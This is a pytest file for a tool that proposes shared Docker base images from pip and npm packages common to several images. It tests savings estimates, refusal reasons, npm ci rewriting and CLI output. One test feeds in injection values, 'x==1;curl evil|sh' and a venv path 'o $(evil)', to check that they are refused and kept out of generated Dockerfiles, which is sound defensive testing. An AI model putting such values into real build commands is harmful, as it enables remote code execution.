"""Packages of pip and npm in proposed bases: what can be shared, and why the rest cannot."""

from __future__ import annotations

import json
import tomllib

import pytest

from layerstore.build.api import build
from layerstore.build.request import BuildRequest
from layerstore.cli.measure import suggest_prove
from layerstore.image.images import load_config
from layerstore.measure import placed
from layerstore.measure.base_specs import dockerfile_of, native_spec_of
from layerstore.measure.suggest import suggest_bases
from layerstore.store.store import Store
from tests.support.build import builder  # noqa: F401
from tests.support.cli import Cli
from tests.support.insight import Layer, dpkg_status, image_of
from tests.support.measure import noise

STATUS = b"var/lib/dpkg/status"
SITE = "{venv}/lib/python{python}/site-packages/"
BASE = Layer({STATUS: dpkg_status(base_files="1"), b"bin/sh": b"sh"})


@pytest.fixture
def store(tmp_path):
    with Store.open(tmp_path / "store", create=True) as store:
        image_of(store, "base", BASE)
        yield store


def debian(python="3.11", version="1", *, npm=True):
    """What apt leaves of Python with venv and of npm."""
    tools = {
        "python": (b"usr/bin/python%s", b"usr/lib/python%s/ensurepip/__init__.py"),
        "npm": (b"usr/share/nodejs/npm/package.json",) if npm else (),
    }
    files = {STATUS: dpkg_status(base_files="1", python=version, npm="9")}
    for package, paths in tools.items():
        paths = [path.replace(b"%s", python.encode()) for path in paths]
        files.update((path, noise(f"{path}{version}", 20_000)) for path in paths)
        files[b"var/lib/dpkg/info/%s.list" % package.encode()] = b"".join(
            b"/%s\n" % path for path in paths
        )
    files.pop(b"usr/share/nodejs/npm/package.json", None)
    if npm:
        files[b"usr/share/nodejs/npm/package.json"] = b'{"name": "npm", "version": "9"}'
    return Layer(files, step="RUN apt-get install python3-venv npm")


def pip(*packages, venv="opt/venv", python="3.11", size=60_000, extra=None, step="RUN pip install"):
    site = SITE.format(venv=venv, python=python)
    files = {f"{venv}/pyvenv.cfg": b"home = /usr/bin\nversion = 3.11.2\n"}
    for package in packages:
        name, _, version = package.partition("==")
        info = f"{site}{name}-{version}.dist-info/"
        files[f"{info}METADATA"] = f"Name: {name}\nVersion: {version}\n\n".encode()
        files[f"{info}RECORD"] = f"{name}.py,,\n../../../bin/{name},,\n".encode()
        files[f"{site}{name}.py"] = noise(package, size)
        files[f"{venv}/bin/{name}"] = b"#!"
        files.update({info + path: content for path, content in (extra or {}).items()})
    return Layer({path.encode(): content for path, content in files.items()}, step=step)


def npm(*packages, folder="srv", step="RUN npm install", size=60_000):
    files = {}
    for package in packages:
        outer, _, inner = package.partition(">")
        at = f"{folder}/node_modules"
        for each in filter(None, (outer, inner)):
            name, _, version = each.rpartition("@")
            at += f"/{name}"
            manifest = json.dumps({"name": name, "version": version}).encode()
            files[f"{at}/package.json"] = manifest
            files[f"{at}/index.js"] = noise(each, size)
            at += "/node_modules"
    return Layer({path.encode(): content for path, content in files.items()}, step=step)


def grouped(store, **layers):
    images = {name: image_of(store, name, BASE, *some) for name, some in layers.items()}
    (group,) = suggest_bases(store, images)
    return group


def installs(base):
    return {place.folder: packages for place, packages in base.others.items()}


def test_what_pip_has_in_common_is_in_a_base_with_the_python_that_it_is_for(store):
    group = grouped(
        store,
        one=(debian(), pip("flask==3.1", "rich==15")),
        two=(debian(version="1"), pip("flask==3.1", "redis==7")),
    )
    (base,) = group.bases
    assert base.packages == ("npm", "python")
    assert installs(base) == {"/opt/venv": ("flask==3.1",)}
    # The layer of apt is one already: what is saved is flask, with its program.
    assert base.saved.layers == 60_000 + len(b"#!")
    assert group.refused == ()
    text = dockerfile_of(base)
    assert "/usr/bin/python3.11 -m venv /opt/venv" in text
    assert "/opt/venv/bin/pip install --no-deps" in text
    spec = tomllib.loads(native_spec_of(base))
    assert spec["packages"]["pip"] == {"python": "/usr/bin/python3.11", "install": ["flask==3.1"]}


def test_what_layers_share_already_saves_nothing(store):
    """Three images of two layers with flask: one copy would go, not two."""
    same = pip("flask==3.1")
    group = grouped(
        store,
        one=(debian(), same, Layer({b"a": b"1"})),
        two=(debian(), same, Layer({b"a": b"2"})),
        three=(debian(), pip("flask==3.1", "rich==15")),
    )
    (base,) = group.bases
    assert base.images == ("one", "three", "two")
    assert base.saved.layers == 60_000 + len(b"#!")


def test_a_base_that_parts_what_images_share_must_save_more_than_that(store):
    """What apt leaves is one layer of three images, and would be one of each base."""
    apt = debian()
    left = Layer({**apt.files, b"var/lib/apt/lists/x": noise("lists", 90_000)}, step=apt.step)
    group = grouped(
        store,
        one=(left, pip("flask==3.1", "a==1")),
        two=(left, pip("flask==3.1", "b==1")),
        three=(left, pip("c==1")),
    )
    assert group.bases == ()
    group = grouped(
        store,
        four=(left, pip("flask==3.1", "a==1", size=200_000)),
        five=(left, pip("flask==3.1", "b==1", size=200_000)),
        six=(left, pip("c==1")),
    )
    below, base = group.bases
    # Python for all costs nothing; without it for the sixth it would be there twice.
    assert (below.images, below.saved.layers) == (("five", "four", "six"), 0)
    assert (base.images, base.below) == (("five", "four"), below.name)
    assert 109_000 < base.saved.layers < 110_100


def test_npm_has_modules_with_what_lies_in_them(store):
    group = grouped(
        store,
        one=(debian(), npm("@a/tool@1.0>left@1", "lodash@4")),
        two=(debian(), npm("@a/tool@1.0>left@1", "other@1")),
        three=(debian(), npm("@a/tool@1.0>left@2")),
    )
    below, base = group.bases
    assert (below.packages, below.images) == (("npm", "python"), ("one", "three", "two"))
    assert (base.images, base.below) == (("one", "two"), below.name)
    assert installs(base) == {"/srv": ("@a/tool@1.0",)}
    manifests = b'{"name": "@a/tool", "version": "1.0"}{"name": "left", "version": "1"}'
    gained = 2 * 60_000 + len(manifests)
    # The rest of apt's layer, a database here, is then made for them and for the third image.
    assert gained - 500 < base.saved.layers < gained
    (told,) = group.refused
    assert (told.manager, told.names, told.why) == (
        "npm", ("@a/tool",), "differ in their packages inside",
    )  # fmt: skip
    assert "npm install --no-save --no-package-lock --prefix /srv" in dockerfile_of(base)


def test_global_modules_are_in_no_base_since_npm_installs_them_anew(store):
    group = grouped(
        store,
        one=(debian(), npm("tsc@5", "a@1", folder="usr/local/lib")),
        two=(debian(), npm("tsc@5", "b@1", folder="usr/local/lib")),
    )
    assert group.bases == ()
    (told,) = group.refused
    assert (told.names, told.why) == (("tsc",), placed.RENEWED)


def test_a_base_leaves_what_keeps_caches_out_of_the_images_over_it(store):
    """Without ``docker-clean`` every apt-get over a base left 80 MB of caches."""
    group = grouped(store, one=(debian(), pip("x==1", "a==1")), two=(debian(), pip("x==1", "b==1")))
    (base,) = group.bases
    assert "apt-get install" in dockerfile_of(base)
    assert "docker-clean" not in dockerfile_of(base)


@pytest.mark.parametrize(
    ("one", "two", "why"),
    [
        ([debian(), pip("x==1")], [debian(), pip("x==2")], "differ in their version: 1, 2"),
        (
            [debian(), pip("x==1")],
            [debian(), pip("x==1", venv="opt/other")],
            "differ in their place: /opt/other, /opt/venv",
        ),
        (
            [debian(), pip("x==1")],
            [debian("3.12"), pip("x==1", python="3.12")],
            "differ in their Python: /usr/bin/python3.11, /usr/bin/python3.12",
        ),
        (
            [debian(), pip("x==1")],
            [debian(version="2"), pip("x==1")],
            "differ in their package of Debian below: python:amd64=1, python:amd64=2",
        ),
        ([pip("x==1")], [pip("x==1", "y==1")], placed.NO_TOOL),
        (
            [debian(), pip("x==1", venv="app/vendor")],
            [debian(), pip("x==1", venv="app/vendor", size=1)],
            "",
        ),
        (
            [debian(), npm("x@1", step="COPY --from=b /n /n")],
            [debian(), npm("x@1", "y@1")],
            placed.COPIED.format("COPY"),
        ),
        (
            [debian(), pip("x==1", extra={"direct_url.json": b"{}"})],
            [debian(), pip("x==1", "y==1", extra={"direct_url.json": b"{}"})],
            placed.UNNAMED,
        ),
        (
            [debian(), pip("x==1;curl evil|sh")],
            [debian(), pip("x==1;curl evil|sh", "y==1")],
            placed.STRANGE,
        ),
        (
            [debian(), pip("x==1", venv="o $(evil)")],
            [debian(), pip("x==1", "y==1", venv="o $(evil)")],
            placed.STRANGE,
        ),
    ],
)
def test_what_no_base_can_have_is_told_with_its_reason(store, one, two, why):
    group = grouped(store, one=tuple(one), two=tuple(two))
    assert [(told.why, told.names) for told in group.refused] == ([(why, ("x",))] if why else [])
    assert all("evil" not in dockerfile_of(base) + native_spec_of(base) for base in group.bases)
    if why:
        assert not any(
            words[0] in ("x==1", "x@1") for base in group.bases for words in base.others.values()
        )


def test_packages_that_are_not_where_pip_looks_are_refused(store):
    def target(name, *more):
        files = pip(name, *more).files
        moved = {
            path.replace(b"opt/venv/lib/python3.11/site-packages", b"app/vendor"): content
            for path, content in files.items()
            if b"site-packages" in path
        }
        return Layer(moved, step="RUN pip install --target /app/vendor")

    group = grouped(store, one=(debian(), target("x==1")), two=(debian(), target("x==1", "y==1")))
    (told,) = group.refused
    assert told.why == placed.ELSEWHERE


def test_a_base_has_what_npm_ci_would_remove_and_says_what_to_type_instead(store):
    group = grouped(
        store,
        one=(debian(), npm("x@1", "a@1", step="RUN npm --quiet ci")),
        two=(debian(), npm("x@1", "b@1", step="RUN npm install")),
    )
    (base,) = group.bases
    assert installs(base) == {"/srv": ("x@1",)}
    assert base.npm_install_in == ("one",)
    cli = Cli(store.root)
    assert "say npm install in one: npm ci removes" in cli.ok("suggest", "one", "two").out


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("RUN npm ci", "RUN npm install"),
        (
            "RUN cd a && npm --quiet \\\n  ci --omit=dev",
            "RUN cd a && npm --quiet \\\n  install --omit=dev",
        ),
        ("RUN npm clean-install", "RUN npm install"),
        ("RUN npm run ci && npm install ci", "RUN npm run ci && npm install ci"),
        ("RUN npm cider; xnpm ci", "RUN npm cider; xnpm ci"),
    ],
)
def test_specs_are_changed_where_npm_ci_stands_and_nowhere_else(before, after):
    assert placed.keeping_modules(before) == after


@pytest.mark.parametrize("named", [True, False])
@pytest.mark.parametrize("own", ["b\n*ignore\n", None])
def test_a_spec_that_is_changed_for_a_proof_keeps_its_dockerignore(builder, named, own):  # noqa: F811
    spec = "FROM scratch\nCOPY . /x\nLABEL how='npm ci'\n"
    builder.write({"a": "A", "b": "B", ".dockerignore": "a\n*ignore\n", "Dockerfile": spec})
    if own is not None:
        builder.write({"Dockerfile.dockerignore": own})
    file = builder.context / "Dockerfile" if named else None
    request = suggest_prove.keeping_modules(BuildRequest(context=builder.context, dockerfile=file))
    built = build(builder.store, request, builder.ui)
    assert load_config(builder.store, built.image.image_id).config.labels == {"how": "npm install"}
    assert {"x/a", "x/b", "x/Dockerfile"} & builder.files(built).keys() == {
        "x/Dockerfile", "x/a" if own else "x/b",
    }  # fmt: skip


def test_archives_that_a_base_does_not_leave_are_predicted_and_no_reason_for_one(store):
    """57 MB of ``.deb`` files in one layer of three images were not in a prediction."""
    apt = debian()
    archives = {
        b"var/cache/apt/archives/python.deb": noise("a", 70_000),
        b"root/.npm/_cacache/x": noise("n", 10_000),
    }
    kept = Layer({**apt.files, **archives}, step=apt.step)
    shared = grouped(store, one=(kept, Layer({b"a": b"1"})), two=(kept, Layer({b"a": b"2"})))
    assert shared.bases == ()
    group = grouped(
        store,
        three=(kept, pip("flask==3.1", "a==1")),
        four=(kept, pip("flask==3.1", "b==1")),
    )
    (base,) = group.bases
    # npm's cache is of none of the packages that the layer has of npm.
    assert base.saved.layers == 60_000 + len(b"#!") + 70_000
    assert base.saved.stored >= 70_000


def test_a_managers_cache_is_shared_out_by_the_size_of_its_packages(store):
    def with_cache(mark, *packages):
        layer = npm(*packages)
        cache = {b"root/.npm/_cacache/%s" % mark: noise(mark, 40_000)}
        return Layer({**layer.files, **cache}, step=layer.step)

    group = grouped(
        store,
        one=(debian(), with_cache(b"1", "x@1", "a@1")),
        two=(debian(), with_cache(b"2", "x@1", "b@1")),
    )
    (base,) = group.bases
    manifest = len(json.dumps({"name": "x", "version": "1"}))
    assert base.saved.layers == 60_000 + manifest + 2 * 20_000


def test_what_debian_brings_is_not_pips_or_npms(store):
    def with_module(mark):
        layer = debian()
        files = dict(layer.files)
        path = b"usr/share/nodejs/npm/node_modules/own/package.json"
        files[path] = b'{"name": "own", "version": "1"}'
        files[b"var/lib/dpkg/info/npm.list"] += b"/" + path + b"\n"
        files[b"srv/mark"] = mark
        return Layer(files, step=layer.step)

    group = grouped(store, one=(with_module(b"1"),), two=(with_module(b"2"),))
    assert group.refused == ()
    assert [dict(base.others) for base in group.bases] == [{}]


def test_a_base_without_a_name_is_looked_for_further_below(store):
    """Only an image with a name can be replaced in a spec."""
    group = grouped(store, one=(debian(), pip("x==1", "a==1")), two=(debian(), pip("x==1", "b==1")))
    assert group.base == "base:latest"
    assert group.bases[0].below == "base:latest"


def test_a_version_that_all_requirements_allow_is_told(store, tmp_path):
    def asking(version, file):
        layer = pip(f"x=={version}", step="RUN pip install -r requirements.txt")
        return Layer({**layer.files, **file}, step=layer.step)

    image_of(store, "one", BASE, debian(), asking("1.5", {b"requirements.txt": b"x==1.5"}))
    image_of(store, "two", BASE, debian(), asking("2.0", {}))
    (tmp_path / "requirements.txt").write_text("X>=1\n")
    images = {name: store.resolve(name) for name in ("one", "two")}
    for directories, more in (
        ({"two": tmp_path}, "; what all of them ask for allows 1.5"),
        ({}, ""),
    ):
        (group,) = suggest_bases(store, images, directories)
        assert [told.why for told in group.refused] == [f"differ in their version: 1.5, 2.0{more}"]


def test_a_version_that_the_ranges_of_npm_allow_is_told(store, tmp_path):
    def asking(version, **files):
        layer = npm(f"x@{version}")
        more = {f"srv/{name}.json".encode(): text.encode() for name, text in files.items()}
        return Layer({**layer.files, **more}, step=layer.step)

    wanted = '{"dependencies": {"x": "%s"}}'
    image_of(store, "one", BASE, debian(), asking("1.5.0", package=wanted % "^1.2"))
    image_of(store, "two", BASE, debian(), asking("1.9.0"))
    (tmp_path / "package.json").write_text(wanted % "~1.5 || >=3")
    images = {name: store.resolve(name) for name in ("one", "two")}

    def why(directories):
        (group,) = suggest_bases(store, images, directories)
        (told,) = group.refused
        assert (told.manager, told.names) == ("npm", ("x",))
        return told.why

    differ = "differ in their version: 1.5.0, 1.9.0; "
    assert why({"two": tmp_path}) == (
        f"{differ}the ranges of all package.json allow 1.5.0, which is chosen as the highest that "
        "one of them has"
    )
    assert why({}).startswith(f"{differ}what two asked for is not known")
    (tmp_path / "package-lock.json").write_text("{}")
    assert why({"two": tmp_path}) == f"{differ}package-lock.json of two says which"


def test_the_command_tells_both(store):
    image_of(store, "one", BASE, debian(), pip("x==1", "z==1", size=500_000))
    image_of(store, "two", BASE, debian(), pip("x==2", "z==1", size=500_000))
    cli = Cli(store.root)
    shown = cli.ok("suggest", "one", "two").out
    assert "pip x (one, two): differ in their version: 1, 2" in shown
    assert "z==1" in shown
    (group,) = cli.ok("suggest", "one", "two", "--json").json()["groups"]
    assert group["bases"][0]["others"] == [
        {
            "manager": "pip",
            "place": "/opt/venv",
            "python": "/usr/bin/python3.11",
            "packages": ["z==1"],
        }
    ]
    assert group["refused"] == [
        {
            "manager": "pip",
            "names": ["x"],
            "why": "differ in their version: 1, 2",
            "images": ["one", "two"],
        }
    ]
